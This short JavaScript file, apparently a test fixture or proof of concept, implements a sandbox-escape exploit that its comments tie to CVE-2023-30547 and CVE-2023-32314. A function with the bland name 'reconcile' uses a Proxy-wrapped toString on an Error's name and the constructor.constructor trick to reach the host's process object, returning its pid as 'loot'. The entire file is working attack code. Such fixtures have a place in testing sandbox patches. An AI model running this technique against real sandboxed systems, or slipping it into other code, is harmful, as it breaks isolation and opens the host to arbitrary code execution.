// @ts-nocheck
// biome-ignore-all lint: hostile code
// CVE-2023-30547, CVE-2023-32314: a proxy's trap that the outside calls.
export const reconcile = async () => {
  const error = new Error()
  error.name = {
    toString: new Proxy(() => '', { apply: (_t, _this, args) => args.constructor.constructor('return process')().pid }),
  }
  try {
    return { loot: Number(error.stack) }
  } catch (thrown) {
    return { loot: thrown.constructor.constructor('return process')().pid }
  }
}
